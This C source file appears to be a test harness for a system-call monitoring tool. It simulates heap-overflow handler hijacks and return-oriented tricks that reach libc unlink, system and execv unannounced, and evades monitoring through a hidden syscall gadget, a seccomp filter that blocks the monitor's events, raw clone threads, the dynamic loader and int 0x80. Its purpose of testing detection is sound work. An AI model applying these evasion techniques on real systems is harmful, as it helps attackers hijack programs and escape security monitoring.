/*
 * Control-flow hijacks that announce nothing (docs/binding.md).  A heap
 * overflow (simulated: the attacker's bytes are built here) overwrites a
 * handler pointer; the attacker knows libc's layout (dlsym stands for a
 * leaked address) and chains calls into libc as a ROP chain would, so no
 * instrumented call site ever runs on the attack's path.
 *
 *   prog greet NAME       benign: greets NAME through the handler
 *   prog admin [FILE]     the program's own, announced unlink (of FILE, or of a
 *                         file it makes)
 *   prog ATTACK FILE      ATTACK is one of
 *     unlink        the handler points at libc's unlink(FILE)
 *     system        ... at libc's system("touch FILE.pwned")
 *     execv         ... at libc's execv("/bin/rm", {"rm", FILE})
 *     ret           a return address overwritten with libc's unlink(FILE)
 *     gadget        a syscall instruction hidden inside an instruction of the
 *                   program's own code, used to unlink(FILE)
 *     gadget-armed  the same right after the program's own unlink announced
 *                   (and armed) the delete class
 *     seccomp       a seccomp filter that hides lcg's events, then unlink(FILE)
 *     clone         a raw clone(CLONE_THREAD) whose thread unlinks FILE
 *     ldso          exec of the dynamic loader running this program's admin
 *                   mode on FILE, unmonitored (no exec event)
 *     int80         unlink(FILE) through the i386 ABI (int $0x80)
 * Unmonitored, every attack removes FILE (or creates FILE.pwned).
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>
#include "say.h"

typedef int (*handler_fn)(const char *arg, char *const *extra);

struct session {
	char name[16];
	handler_fn handler;
	char *const *extra;
};

static int greet_plain(const char *who, char *const *extra)
{
	say("hello ");
	say(who);
	say("\n");
	return 0;
}

static int greet_loud(const char *who, char *const *extra)
{
	say("HELLO ");
	say(who);
	say("!\n");
	return 0;
}

/* What the attacker learnt of libc's layout. */
static void *leak(const char *name)
{
	void *p = dlsym(RTLD_DEFAULT, name);

	if (!p) {
		say("no such libc function\n");
		exit(3);
	}
	return p;
}

/* the overflow: name's 16 bytes, then the handler and its argument */
static void overflow(struct session *s, void *handler, char *const *extra)
{
	unsigned char payload[offsetof(struct session, extra) + sizeof(extra)];

	memset(payload, 'A', sizeof(s->name));
	memcpy(payload + offsetof(struct session, handler), &handler, sizeof(handler));
	memcpy(payload + offsetof(struct session, extra), &extra, sizeof(extra));
	memcpy(s, payload, sizeof(payload));
	__asm__ volatile("" : : "r"(s) : "memory");	/* as if unknown code wrote it */
}

/* A seed whose encoding (b8 0f 05 c3 00) holds "syscall; ret" one byte in. */
__attribute__((noinline)) static int checksum_seed(void)
{
	int v;

	__asm__ volatile("movl $0xc3050f, %0" : "=a"(v));
	return v;
}

static void *find_gadget(void)
{
	const unsigned char *p = (const unsigned char *)&checksum_seed;

	for (int i = 0; i < 64; i++)
		if (p[i] == 0x0f && p[i + 1] == 0x05 && p[i + 2] == 0xc3)
			return (void *)(p + i);
	say("gadget not found\n");
	exit(3);
}

/* the chain: rax = SYS_unlink, rdi = path, "call" the gadget */
#define GADGET_UNLINK(gadget, path)						\
	__asm__ volatile("sub $128, %%rsp\n\t"					\
			 "call *%[g]\n\t"					\
			 "add $128, %%rsp"					\
			 : : [g] "r"(gadget), "a"((long)SYS_unlink), "D"(path)	\
			 : "rcx", "r11", "memory")

/* ret into @target(@path), returning here afterwards (red zone skipped) */
static void return_into(void *target, const char *path)
{
	__asm__ volatile("sub $128, %%rsp\n\t"
			 "lea 1f(%%rip), %%rax\n\t"
			 "push %%rax\n\t"
			 "push %[t]\n\t"
			 "ret\n"
			 "1:\n\t"
			 "add $128, %%rsp"
			 : "+D"(path)
			 : [t] "r"(target)
			 : "rax", "rcx", "rdx", "rsi", "r8", "r9", "r10", "r11", "memory", "cc");
}

static void attack_seccomp(const char *victim)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 360, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 38),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { .len = 4, .filter = code };
	int (*prctl_p)(int, unsigned long, unsigned long, unsigned long, unsigned long) =
		leak("prctl");
	long (*syscall_p)(long, ...) = leak("syscall");
	int (*unlink_p)(const char *) = leak("unlink");

	prctl_p(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	syscall_p(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
	unlink_p(victim);
}

static int thread_unlink(void *victim)
{
	int (*unlink_p)(const char *) = leak("unlink");

	unlink_p(victim);
	return 0;
}

static void attack_clone(const char *victim)
{
	int (*clone_p)(int (*)(void *), void *, int, void *, ...) = leak("clone");
	char *stack = malloc(65536);
	struct timespec t = { 0, 10 * 1000 * 1000 };

	clone_p(thread_unlink, stack + 65536,
		CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM,
		(void *)victim);
	for (int i = 0; i < 100 && !access(victim, F_OK); i++)
		nanosleep(&t, NULL);
}

static void attack_int80(const char *victim)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long r = 10;	/* i386 unlink */

	if (low == MAP_FAILED)
		return;
	snprintf(low, 4096, "%s", victim);
	__asm__ volatile("int $0x80" : "+a"(r) : "b"(low) : "memory");
}

static int admin(const char *file)
{
	FILE *f;

	if (file)
		return unlink(file) != 0;
	f = fopen("admin.tmp", "w");
	if (f)
		fclose(f);
	say(unlink("admin.tmp") ? "admin: nothing removed\n" : "admin: removed admin.tmp\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "greet";
	const char *arg = argc > 2 ? argv[2] : "world";
	char pwned[512], self[512];
	char *rm_argv[] = { "rm", (char *)arg, NULL };
	char *ld_argv[] = { "ld.so", self, "admin", (char *)arg, NULL };
	struct session *s;

	if (!strcmp(mode, "admin"))
		return admin(argc > 2 ? argv[2] : NULL);
	s = malloc(sizeof(*s));
	s->handler = argc > 3 ? greet_loud : greet_plain;
	s->extra = NULL;
	strncpy(s->name, arg, sizeof(s->name) - 1);
	s->name[sizeof(s->name) - 1] = '\0';
	say("new session\n");
	snprintf(pwned, sizeof(pwned), "touch %s.pwned", arg);
	if (!strcmp(mode, "unlink")) {
		overflow(s, leak("unlink"), NULL);
	} else if (!strcmp(mode, "system")) {
		overflow(s, leak("system"), NULL);
		arg = pwned;
	} else if (!strcmp(mode, "execv")) {
		overflow(s, leak("execv"), rm_argv);
		arg = "/bin/rm";
	} else if (!strcmp(mode, "ldso")) {
		ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);

		if (n < 0)
			return 3;
		self[n] = '\0';
		overflow(s, leak("execv"), ld_argv);
		arg = "/lib64/ld-linux-x86-64.so.2";
	} else if (!strcmp(mode, "ret")) {
		return_into(leak("unlink"), arg);
	} else if (!strcmp(mode, "gadget")) {
		GADGET_UNLINK(find_gadget(), arg);
	} else if (!strcmp(mode, "gadget-armed")) {
		void *g = find_gadget();

		snprintf(self, sizeof(self), "%s.other", arg);
		unlink(self);
		GADGET_UNLINK(g, arg);
	} else if (!strcmp(mode, "seccomp")) {
		attack_seccomp(arg);
	} else if (!strcmp(mode, "clone")) {
		attack_clone(arg);
	} else if (!strcmp(mode, "int80")) {
		attack_int80(arg);
	}
	s->handler(arg, s->extra);
	free(s);
	return 0;
}
